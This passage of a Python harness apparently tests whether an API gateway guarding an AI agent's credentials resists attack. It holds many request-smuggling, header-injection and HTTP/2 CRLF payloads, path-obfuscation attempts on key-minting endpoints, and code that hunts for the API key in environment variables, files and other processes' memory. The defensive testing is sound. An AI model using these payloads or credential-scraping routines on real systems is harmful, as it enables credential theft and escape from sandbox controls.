    for command in (b"show info\n", b"show stat\n", b"show env\n", b"@master show proc\n"):
        answer = _said((host, port), command, seconds=1)
        if answer and not answer.startswith(b"HTTP/1."):
            return answer[:100].decode("latin-1")
    for path in ("/haproxy?stats", "/;csv", "/metrics", "/stats"):
        answer = _said((host, port), f"GET {path} HTTP/1.0\r\n\r\n".encode(), seconds=1)
        if b"pxname" in answer or b"haproxy_" in answer:
            return path
    raise BlockedError("no answer is one of HAProxy's")


# Keys of somebody else's at the API.


def _api(*sent: bytes) -> bytes:
    host, port = _CONFIG["api"]
    return _said((host, port), *sent, seconds=2)


def _foreign(name: str, head: bytes, *more: bytes) -> None:
    """Send what holds a word, which is not to come anywhere near the API's credentials."""

    def attempt() -> str:
        word = _word()
        with contextlib.suppress(OSError):
            _api(*(piece.replace(b"WORD", word.encode()) for piece in (head + b"\r\n\r\n", *more)))
        return word

    ATTACKS.append(Attack(f"foreign key, {name}", "keys", attempt, bare=True))


_POST: Final = b"POST /v1/messages HTTP/1.1\r\nHost: api\r\n"
_EMPTY: Final = _POST + b"Content-Length: 0\r\n"
_INNER: Final = b"GET /v1/models HTTP/1.1\r\nHost: api\r\nX-Canary: WORD\r\n\r\n"
for _name, _headers in {
    "x-api-key": b"X-Api-Key: WORD",
    "authorization": b"Authorization: Bearer WORD",
    "basic authorization": b"Authorization: Basic WORD",
    "both": b"X-Api-Key: WORD\r\nAuthorization: Bearer WORD",
    "cookie": b"Cookie: sessionKey=WORD",
    "proxy-authorization": b"Proxy-Authorization: Basic WORD",
    "api-key": b"Api-Key: WORD",
    "twice": b"X-Api-Key: x\r\nX-Api-Key: WORD",
    "four times": b"x-api-key: WORD\r\nX-API-KEY: x\r\nX-Api-Key: WORD\r\nx-api-KEY: WORD",
    "space before the colon": b"X-Api-Key : WORD",
    "space before the name": b" X-Api-Key: WORD",
    "folded": b"X-Api-Key: x\r\n WORD",
    "underscores": b"X_Api_Key: WORD",
    "another gateway's header": b"X-Litellm-Api-Key: WORD",
    "another cloud's header": b"X-Goog-Api-Key: WORD",
    "a security token": b"X-Amz-Security-Token: WORD",
    "a forwarded one": b"X-Forwarded-Authorization: Bearer WORD\r\nX-Original-Authorization: WORD",
    "bare line feed": b"X-Other: x\nX-Api-Key: WORD",
    "bare carriage return": b"X-Other: x\rX-Api-Key: WORD",
    "NUL in the name": b"X-Api-Key\0: WORD",
    "vertical tab in the name": b"X-Api-Key\x0b: WORD",
    "another host": b"X-Host: WORD\r\nX-HTTP-Host-Override: WORD",
    "another path": b"X-URL: WORD\r\nX-Path-Prefix: WORD",
    "the name of a launch": b"X-Pinnace-Launch: WORD",
    "hop by hop": b"Connection: x-api-key, close\r\nX-Api-Key: WORD",
}.items():
    _foreign(_name, _EMPTY + _headers)


for _query in (
    *("api_key=WORD", "x=1&API-Key=WORD", "key=WORD", "access_token=WORD", "x-api-key=WORD"),
    *("a%70i_key=WORD", "x&token=WORD", "x%26api_key=WORD", "authorization=Bearer%20WORD"),
    *("a=%zz&key=WORD", "api+key=WORD", "subscription-key=WORD", "client_secret=WORD"),
    *("x;api_key=WORD", "key%3dWORD"),
):
    _foreign(
        f"in a query, {_query}",
        b"GET /v1/models?%b HTTP/1.1\r\nHost: api\r\nContent-Length: 0" % _query.encode(),
    )


def _smuggled(name: str, head: bytes, *more: bytes) -> None:
    _foreign(f"smuggled, {name}", head, *more)
    # These ask how what is between two servers reads a request: nothing is, in a bare one.
    ATTACKS[-1] = ATTACKS[-1]._replace(bare=False)


_HIDDEN: Final = b"GET /v1/models HTTP/1.1\r\nHost: api\r\nX-Api-Key: WORD\r\n\r\n"
for _name, _framing, _body in (
    ("length beside chunks", b"Content-Length: 4\r\nTransfer-Encoding: chunked", b"0\r\n\r\n"),
    ("chunks beside length", b"Transfer-Encoding: chunked\r\nContent-Length: 300", b"0\r\n\r\n"),
    ("an encoding with a space", b"Transfer-Encoding : chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ("an unknown encoding", b"Transfer-Encoding: xchunked", b"0\r\n\r\n"),
    (
        "an encoding twice",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"0\r\n\r\n",
    ),
    ("two lengths", b"Content-Length: 0\r\nContent-Length: 90", b""),
    ("a length with a sign", b"Content-Length: +0", b""),
    ("a chunk with an extension", b"Transfer-Encoding: chunked", b"0;x\n\r\n\r\n"),
    ("a chunk that wraps around", b"Transfer-Encoding: chunked", b"10000000000000000\r\n\r\n"),
    ("a second request", b"Content-Length: 0", b""),
):
    _smuggled(_name, _POST + _framing, _body + _HIDDEN)
for _name, _head in {
    "h2c": b"GET /v1/models HTTP/1.1\r\nHost: api\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nUpgrade: h2c",
    "websocket": b"GET /v1/models HTTP/1.1\r\nHost: api\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==",
    "tunnel": b"CONNECT api:443 HTTP/1.1\r\nHost: api:443",
}.items():
    _foreign(f"after an upgrade, {_name}", _head, _HIDDEN)


_GET: Final = b"GET / HTTP/1.1\r\nHost: api\r\n"


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return (
        struct.pack("!I", len(body))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + body
    )


def _field(name: bytes, value: bytes) -> bytes:
    """Spell a header in HTTP/2: as text, not to be remembered."""
    return b"\x10" + bytes((len(name),)) + name + bytes((len(value),)) + value


def _in_http2(name: str, *fields: tuple[bytes, bytes], more: bytes = b"") -> None:
    """Speak HTTP/2 to the API's port at once; `more` comes when the API may have answered."""

    def attempt() -> str:
        word = _word()
        whole = b"".join(_field(n, v.replace(b"WORD", word.encode())) for n, v in fields)
        begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
        with contextlib.suppress(OSError):
            if more:
                body = _frame(0, 0, 1, more.replace(b"WORD", word.encode()))
                _api(begin, _frame(1, 4, 1, whole), body)
            else:
                _api(begin + _frame(1, 5, 1, whole))
        return word

    ATTACKS.append(Attack(f"HTTP/2, {name}", "keys", attempt, bare=False))


_H2: Final = ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"api"))
_H2_POST: Final = ((b":method", b"POST"), *_H2[1:])
_in_http2("a key", *_H2, (b":path", b"/"), (b"x-api-key", b"WORD"))
_in_http2("two cookies", *_H2, (b":path", b"/"), (b"cookie", b"a=WORD"), (b"cookie", b"WORD"))
_in_http2("capitals", *_H2, (b":path", b"/"), (b"X-Api-Key", b"WORD"))
_in_http2("a line end in a header", *_H2, (b":path", b"/"), (b"a", b"b\r\nx-api-key: WORD"))
_in_http2("a line end in a name", *_H2, (b":path", b"/"), (b"a: b\r\nx-api-key", b"WORD"))
_in_http2("a line end in a path", *_H2, (b":path", b"/ HTTP/1.1\r\nX-Api-Key: WORD\r\nA: "))
_in_http2("a line end in a method", (b":method", b"GET / HTTP/1.1\r\nA: WORD\r\n"), *_H2[1:])
_in_http2("another host", *_H2[:2], (b":authority", b"WORD.example"), (b":path", b"/"))
_in_http2("minting", *_H2_POST, (b":path", b"/v1/organizations/users?WORD"))
_in_http2("minting, a path without a slash", *_H2_POST, (b":path", b"v1/organizations?WORD"))
_in_http2("minting, a URL as a path", *_H2_POST, (b":path", b"http://api/v1/organizations?WORD"))
_in_http2(
    "minting, a scheme with a path",
    (b":method", b"POST"),
    (b":scheme", b"http://api/v1/organizations?WORD"),
    (b":authority", b"api"),
    (b":path", b"/"),
)
_in_http2(
    "tunnel",
    (b":method", b"CONNECT"),
    (b":protocol", b"websocket"),
    *_H2[1:],
    (b":path", b"/v1/models"),
    more=_HIDDEN,
)
_in_http2(
    "a length and an encoding",
    *_H2_POST,
    (b":path", b"/?WORD"),
    (b"transfer-encoding", b"chunked"),
)


def _arrives(name: str, head: bytes) -> None:
    def attempt() -> str:
        word = _word()
        with contextlib.suppress(OSError):
            _api(head.replace(b"WORD", word.encode()) + b"\r\n\r\n")
        return word

    ATTACKS.append(Attack(name, "keys", attempt, bare=True))


for _name, _head in {
    "reflection, TRACE": b"TRACE /WORD HTTP/1.1\r\nHost: api",
    "reflection, TRACK": b"TRACK /WORD HTTP/1.1\r\nHost: api",
    "reflection, DEBUG": b"DEBUG /WORD HTTP/1.1\r\nHost: api",
    "another host, Host": b"GET / HTTP/1.1\r\nHost: WORD.example",
    "another host, URL": b"GET http://WORD.example/ HTTP/1.1\r\nHost: WORD.example",
    "another host, URL of https": b"GET https://WORD.example/ HTTP/1.1\r\nHost: WORD.example",
    "another host, URL and Host": b"GET http://WORD.example/ HTTP/1.1\r\nHost: api",
    "another host, X-Forwarded-Host": _GET + b"X-Forwarded-Host: WORD.example",
    "another path, X-Original-URL": _GET + b"X-Original-URL: /v1/organizations/WORD",
    "another path, X-Rewrite-URL": _GET + b"X-Rewrite-URL: /v1/organizations/WORD",
    "another method": _GET + b"X-HTTP-Method-Override: WORD",
    "hop by hop, the key is taken off behind": _GET + b"Connection: x-api-key, WORD",
}.items():
    _arrives(_name, _head)


_MINTING: Final = (
    "/api/oauth/claude_cli/create_api_key",
    "/api/oauth/CLAUDE_CLI/Create_API_Key",
    "/api/oauth/claude_cli/%63reate_api_key",
    "/api/oauth/claude_cli/create%5Fapi%5fkey",
    "/api/oauth/claude_cli/%2563reate_api_key",
    "/api/oauth//claude_cli//create_api_key",
    "//api/oauth/claude_cli/create_api_key",
    "/api/oauth/claude_cli/x/../create_api_key",
    "/api/oauth/claude_cli/create_api_key/",
    "/api/oauth/claude_cli/create_api_key/%zz",
    "/api/oauth/claude_cli/create_api_key%",
    "/api/oauth/claude_cli/create_api_key;x",
    "/api/oauth/claude_cli/create_api_key%00",
    "/api/oauth/claude_cli/create_api_key#x",
    "/api/oauth/claude_cli;x=1/create_api_key",
    "/api/organizations/x/api_keys",
    "/v1/organizations/api_keys",
    "/v1/organizations",
    "/V1/Organizations/invites",
    "/v1/%6frganizations/users",
    "/v1/organizations/%zz",
    "/v1/./organizations/users",
    "/v1/x/%2e%2e/organizations/users",
    "/v1/x/..%2forganizations/users",
    "/v1%2forganizations/users",
    "/v1\\organizations/users",
    "/v1%5corganizations/users",
    "/v1;x/organizations/users",
    "/v1/;/organizations/users",
    "/v1/x/..;/organizations/users",
    "/v1%2f%2forganizations",
    "/v1/org%0aanizations",
    "/oauth/token",
    "/v1/oauth/token",
    "/v1/oauth;x/token",
    "/v1/oauth/%74oken",
    "/oauth/authorize",
    "/key/generate",
    "/KEY/generate",
)


def _mint(path: str) -> None:
    spelled = path.encode()
    _arrives(
        f"minting, {path}", b"POST %b?WORD HTTP/1.1\r\nHost: api\r\nContent-Length: 0" % spelled
    )
    # An anchor hides what follows it: the word stands before.
    if "#" in path:
        ATTACKS.pop()
        before, _, after = spelled.partition(b"#")
        line = b"POST %b?WORD#%b HTTP/1.1\r\nHost: api\r\nContent-Length: 0" % (before, after)
        _arrives(f"minting, {path}", line)


for _path in _MINTING:
    _mint(_path)
for _name, _beta in {
    "servers of MCP": b"Anthropic-Beta: mcp-client-2025-11-20",
    "servers of MCP, among others": b"anthropic-beta: files-api, MCP-Client-2025-04-04,x",
    "servers of MCP, twice": b"anthropic-beta: x\r\nanthropic-beta: mcp-client-2025-11-20",
    "pages": b"anthropic-beta: web-fetch-2025-09-10",
}.items():
    _arrives(
        f"the API connects to {_name}",
        b"POST /v1/messages?WORD HTTP/1.1\r\nHost: api\r\nContent-Length: 0\r\n" + _beta,
    )
_arrives(
    "minting, by a URL",
    b"POST http://api/v1/organizations/users?WORD HTTP/1.1\r\nHost: api\r\nContent-Length: 0",
)


# The key itself.


def _key() -> str:
    # In halves, so that these arguments are no place where it is found.
    return "".join(_CONFIG["key"])


def _holding(places: Sequence[str]) -> str:
    key = _key().encode()
    for place in places:
        for path in (Path(place), *Path(place).rglob("*")):
            # Of others, and gone meanwhile, are many.
            with contextlib.suppress(OSError):
                if path.is_file() and path.stat().st_size < 1 << 24 and key in path.read_bytes():
                    return str(path)
    raise BlockedError("nowhere")


def _in_processes(what: str) -> str:
    key = _key().encode()
    for path in Path("/proc").glob(f"[0-9]*/{what}"):
        with contextlib.suppress(OSError):
            if key in path.read_bytes():
                return str(path)
    raise BlockedError("nowhere")


@_attack("keys", bare=True)
def _key_in_the_environment() -> str:
    key = _key()
    found = [name for name, value in os.environ.items() if key in value]
    if not found:
        raise BlockedError("not there")
    return str(found)


@_attack("keys", bare=True)
def _key_in_processes_environments() -> str:
    return _in_processes("environ")


@_attack("keys")
def _key_in_processes_arguments() -> str:
    return _in_processes("cmdline")


@_attack("keys")
def _key_in_files() -> str:
    places = ("/home", "/root", "/run", "/tmp", "/etc", "/var")  # noqa: S108 (looked into)
    return _holding((*places, str(Path.cwd())))


@_attack("keys")
def _key_in_memory_of_other_processes() -> str:
    key = _key().encode()
    for process in Path("/proc").glob("[0-9]*"):
        if int(process.name) in {os.getpid(), os.getppid()}:
            continue
        with contextlib.suppress(OSError, ValueError):
            maps = (process / "maps").read_text()
            with (process / "mem").open("rb") as memory:
                for begin, end in re.findall(r"(?m)^([0-9a-f]+)-([0-9a-f]+) rw", maps):
                    memory.seek(int(begin, 16))
                    if key in memory.read(min(int(end, 16) - int(begin, 16), 1 << 24)):
                        return str(process)
    raise BlockedError("nowhere")


@_attack("keys")
def _key_in_an_answer_of_the_gateway() -> str:
    asked = (
        b"GET /%zz HTTP/1.1\r\nHost: api\r\nX-Api-Key: x\r\n\r\n",
        b"GARBAGE\r\n\r\n",
        b"GET / HTTP/9.9\r\nX-Api-Key: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nX-Api-Key: x\r\nExpect: 200-ok\r\nHost: api\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: api\r\nX-Api-Key: x\r\nX: " + b"y" * 40_000 + b"\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: api\r\nX-Api-Key: x\r\nMax-Forwards: 0\r\n\r\n",
    )
    for one in asked:
        if _key().encode() in _api(one):
            return one[:40].decode("latin-1")
    raise BlockedError("in none")


def _tried(attack: Attack) -> dict[str, object]:
    try:
        try:
            said = attack.attempt()
        except ConnectionResetError:
            # Many are tried at once: a server that is overrun says nothing about the attack.
            said = attack.attempt()
    except Exception as error:  # noqa: BLE001 (an attack may fail in any way)
        return {"name": attack.name, "through": False, "said": f"{type(error).__name__}: {error}"}
    trace = str(said) if isinstance(said, Trace) else ""
    return {"name": attack.name, "through": not trace, "said": str(said), "trace": trace}


def main() -> None:
    """Try them, many at once: most of them wait for what does not come."""
    _CONFIG.update(json.loads(sys.argv[2]))
    chosen = [a for a in ATTACKS if a.group == sys.argv[1] and (a.bare or _CONFIG["proxied"])]
    with ThreadPoolExecutor(24) as pool:
        for result in pool.map(_tried, chosen):
            sys.stdout.write(json.dumps(result) + "\n")


if __name__ == "__main__":
    main()
